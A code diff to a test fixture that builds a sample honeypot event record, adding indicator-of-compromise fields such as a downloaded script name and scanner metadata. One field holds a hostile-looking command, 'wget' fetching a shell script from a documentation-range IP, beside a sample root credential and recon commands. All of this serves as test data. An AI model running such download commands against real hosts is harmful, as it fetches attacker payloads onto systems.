@@ -29,13 +29,19 @@ function richEvent(): MitsuEvent {
     protocol: 'sip',
     tags: [{ id: 'mitsu-0001', name: 'Scan “probe”', intent: 'scan', cve: ['CVE-2024-0001'] }],
     intent: 'scan',
-    iocs: { urls: ['http://203.0.113.5/x.sh'], ips: ['203.0.113.5'], domains: [] },
+    iocs: {
+      urls: ['http://203.0.113.5/x.sh'], ips: ['203.0.113.5'], domains: [],
+      downloads: ['wget http://203.0.113.5/x.sh'], files: ['x.sh'], hashes: [],
+    },
     credentials: [{ username: 'root', password: 'pässwörd\u0000日本' }],
     commands: ['uname -a', 'echo "\u2603"'],
     template: 'sip-options',
     country: 'JP',
     asn: 64_496,
     as_org: 'Documentation AS ✓',
+    src_scope: 'documentation',
+    scanner: 'Example “Scanner”',
+    rules_version: 'r0123456789a',
     fields: { method: 'OPTIONS', nested: { list: [1, 'two', null, true] }, emoji: '🐝' },
   }, BINARY);
 }
